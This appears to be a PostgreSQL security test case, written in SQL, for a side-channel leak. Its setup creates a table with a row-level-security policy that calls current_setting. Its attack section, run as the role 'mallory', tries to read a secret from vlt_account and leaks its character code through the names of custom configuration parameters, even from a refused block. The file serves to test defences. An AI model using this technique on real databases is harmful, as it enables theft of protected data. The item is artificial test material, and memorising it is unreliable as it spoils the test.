-- Makes up a parameter by a letter in a block that is refused, and lets row security ask for it.
-- wants: read
-- shows: letter-116
-- setup:
CREATE TABLE asked (name text);
INSERT INTO asked SELECT '-' || n FROM generate_series(112, 118) n;
ALTER TABLE asked ENABLE ROW LEVEL SECURITY;
CREATE POLICY there ON asked USING (current_setting('x.y1_' || substr(name, 2), true) IS NOT NULL);
GRANT SELECT ON asked TO mallory;
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
-- repeat: 112..118
SELECT 'letter' || name FROM asked WHERE name = '-{n}';
